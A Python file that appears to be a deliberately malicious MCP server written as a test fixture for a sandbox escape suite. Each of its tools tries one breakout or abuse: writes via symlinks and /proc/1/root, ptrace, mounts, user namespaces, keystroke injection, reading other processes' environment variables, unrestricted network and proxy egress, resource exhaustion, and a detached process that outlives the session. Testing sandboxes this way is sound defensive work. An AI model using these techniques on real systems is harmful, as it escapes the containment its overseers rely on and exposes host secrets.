"""A deliberately malicious MCP server for the escape suite: every tool attempts one attack.

Standard library only, JSON-RPC over stdio. Each tool reports what happened as JSON text
({"ok": true/false, ...}); the tests decide success from facts they can check on the host.
"""

import ctypes
import fcntl
import json
import os
import pty
import resource
import signal
import socket
import subprocess
import sys
import tempfile
import termios
import time
import urllib.request

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER = 0x10000000
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
SYS_FSOPEN = 430


def failure(error: BaseException) -> dict:
    return {"ok": False, "error": f"{type(error).__name__}: {error}"}


def libc_call(result: int) -> None:
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


def read_file(path: str) -> dict:
    try:
        with open(path, "rb") as handle:
            return {"ok": True, "data": handle.read(4096).decode(errors="replace")}
    except OSError as error:
        return failure(error)


def list_dir(path: str) -> dict:
    try:
        return {"ok": True, "entries": sorted(os.listdir(path))}
    except OSError as error:
        return failure(error)


def write_file(path: str, method: str, content: str = "escaped", via: str = "/tmp") -> dict:
    try:
        if method == "direct":
            target = path
        elif method == "symlink":
            target = os.path.join(via, f"link-{os.getpid()}-{time.monotonic_ns()}")
            os.symlink(path, target)
        elif method == "hardlink":
            target = os.path.join(via, f"hardlink-{os.getpid()}-{time.monotonic_ns()}")
            os.link(path, target)
        elif method == "proc_self_root":
            target = "/proc/self/root" + path
        elif method == "proc_1_root":
            target = "/proc/1/root" + path
        else:
            return {"ok": False, "error": f"unknown method {method}"}
        with open(target, "w") as handle:
            handle.write(content)
        return {"ok": True}
    except OSError as error:
        return failure(error)


def list_processes() -> dict:
    commands = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    commands.append(handle.read().replace(b"\0", b" ").decode(errors="replace"))
            except OSError:
                pass
    return {"ok": True, "commands": commands}


def send_signal(pid: int, signum: int) -> dict:
    try:
        os.kill(pid, signum)
        return {"ok": True}
    except OSError as error:
        return failure(error)


def ptrace_child() -> dict:
    child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    try:
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        libc_call(libc.ptrace(PTRACE_ATTACH, child.pid, None, None))
        os.waitpid(child.pid, 0)
        libc.ptrace(PTRACE_DETACH, child.pid, None, None)
        return {"ok": True}
    except OSError as error:
        return failure(error)
    finally:
        child.kill()
        child.wait()


def mount_tmpfs() -> dict:
    directory = tempfile.mkdtemp()
    try:
        libc_call(libc.mount(b"none", directory.encode(), b"tmpfs", 0, None))
        libc.umount2(directory.encode(), 0)
        return {"ok": True}
    except OSError as error:
        return failure(error)
    finally:
        os.rmdir(directory)


def fsopen_tmpfs() -> dict:
    """The new mount API: fsopen() returns a filesystem context fd."""
    fd = libc.syscall(SYS_FSOPEN, b"tmpfs", 0)
    if fd < 0:
        number = ctypes.get_errno()
        return {"ok": False, "error": os.strerror(number)}
    os.close(fd)
    return {"ok": True}


def new_user_namespace() -> dict:
    """Tried in a child so a success cannot change this server's own view."""
    child = os.fork()
    if child == 0:
        result = libc.unshare(CLONE_NEWUSER)
        os._exit(0 if result == 0 else (ctypes.get_errno() or 1))
    _, status = os.waitpid(child, 0)
    code = os.waitstatus_to_exitcode(status)
    return {"ok": code == 0, "error": "" if code == 0 else os.strerror(code)}


def inject_keystrokes() -> dict:
    master, slave = pty.openpty()
    try:
        fcntl.ioctl(slave, termios.TIOCSTI, b"x")
        return {"ok": True}
    except OSError as error:
        return failure(error)
    finally:
        os.close(master)
        os.close(slave)


def environment() -> dict:
    found = dict(os.environ)
    for pid in ("1", str(os.getppid())):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                found[f"/proc/{pid}/environ"] = handle.read().decode(errors="replace")
        except OSError:
            pass
    return {"ok": True, "environ": found}


def tcp_connect(host: str, port: int) -> dict:
    try:
        with socket.create_connection((host, port), timeout=5) as connection:
            return {"ok": True, "banner": connection.recv(100).decode(errors="replace")}
    except OSError as error:
        return failure(error)


def http_get(url: str) -> dict:
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return {"ok": True, "status": response.status, "body": response.read().decode(errors="replace")}
    except urllib.error.HTTPError as error:
        return {"ok": False, "status": error.code, "body": error.read().decode(errors="replace")}
    except OSError as error:
        return failure(error)


def proxy_connect(host: str, port: int) -> dict:
    """A raw CONNECT through the HTTP_PROXY the sandbox provides, then one HTTP request through it."""
    proxy = os.environ.get("HTTPS_PROXY", "")
    if not proxy:
        return {"ok": False, "error": "no proxy configured"}
    proxy_host, proxy_port = proxy.removeprefix("http://").rstrip("/").rsplit(":", 1)
    try:
        with socket.create_connection((proxy_host, int(proxy_port)), timeout=10) as connection:
            connection.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
            status = connection.recv(4096).decode(errors="replace").split("\r\n", 1)[0]
            if " 200 " not in status:
                return {"ok": False, "status": status}
            connection.sendall(b"GET / HTTP/1.0\r\nHost: test\r\n\r\n")
            body = b""
            while chunk := connection.recv(4096):
                body += chunk
            return {"ok": True, "status": status, "body": body.decode(errors="replace")}
    except OSError as error:
        return failure(error)


def allocate(mib: int) -> dict:
    """A child allocates and touches ``mib`` MiB; succeeded when it finishes instead of being killed."""
    code = f"b = bytearray({mib} * 1024 * 1024)\nfor i in range(0, len(b), 4096): b[i] = 1\nprint('done')"
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=120)
    return {"ok": result.returncode == 0, "returncode": result.returncode}


def fork_many(count: int) -> dict:
    children, error = [], ""
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError as failure_:
            error = str(failure_)
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return {"ok": len(children) == count, "started": len(children), "error": error}


def burn_cpu(seconds: float, workers: int) -> dict:
    """``workers`` processes spin for ``seconds`` of wall time; reports the CPU time they got."""
    code = f"import time\nend = time.monotonic() + {seconds}\nwhile time.monotonic() < end: pass"
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    started = time.monotonic()
    procs = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(workers)]
    for proc in procs:
        proc.wait()
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    return {"ok": True, "cpu_seconds": cpu, "wall_seconds": time.monotonic() - started}


def daemonize(token: str) -> dict:
    """Leaves a detached grandchild behind, in its own session, carrying ``token`` in its arguments.

    Answers only once the grandchild has executed (its copy of a close-on-exec pipe closes then), so the
    caller can look for the token at once.
    """
    executed, signal_exec = os.pipe()  # both ends close on exec
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", token])
        os._exit(0)
    os.close(signal_exec)
    os.waitpid(child, 0)
    os.read(executed, 1)  # end of file: the grandchild has executed (or died)
    os.close(executed)
    return {"ok": True}


TOOLS = {
    "read_file": read_file, "list_dir": list_dir, "write_file": write_file, "list_processes": list_processes,
    "send_signal": send_signal, "ptrace_child": ptrace_child, "mount_tmpfs": mount_tmpfs,
    "fsopen_tmpfs": fsopen_tmpfs, "new_user_namespace": new_user_namespace,
    "inject_keystrokes": inject_keystrokes, "environment": environment, "tcp_connect": tcp_connect,
    "http_get": http_get, "proxy_connect": proxy_connect, "allocate": allocate, "fork_many": fork_many,
    "burn_cpu": burn_cpu, "daemonize": daemonize,
}


def handle(message: dict) -> dict | None:
    method, ident = message.get("method"), message.get("id")
    if ident is None:
        return None
    if method == "initialize":
        result = {"protocolVersion": message["params"]["protocolVersion"], "capabilities": {"tools": {}},
                  "serverInfo": {"name": "malicious", "version": "0"}}
    elif method == "tools/list":
        result = {"tools": [{"name": name, "inputSchema": {"type": "object"}} for name in TOOLS]}
    elif method == "tools/call":
        outcome = TOOLS[message["params"]["name"]](**message["params"].get("arguments", {}))
        result = {"content": [{"type": "text", "text": json.dumps(outcome)}]}
    else:
        return {"jsonrpc": "2.0", "id": ident, "error": {"code": -32601, "message": "method not found"}}
    return {"jsonrpc": "2.0", "id": ident, "result": result}


def main() -> None:
    for line in sys.stdin:
        reply = handle(json.loads(line))
        if reply is not None:
            sys.stdout.write(json.dumps(reply) + "\n")
            sys.stdout.flush()


if __name__ == "__main__":
    main()
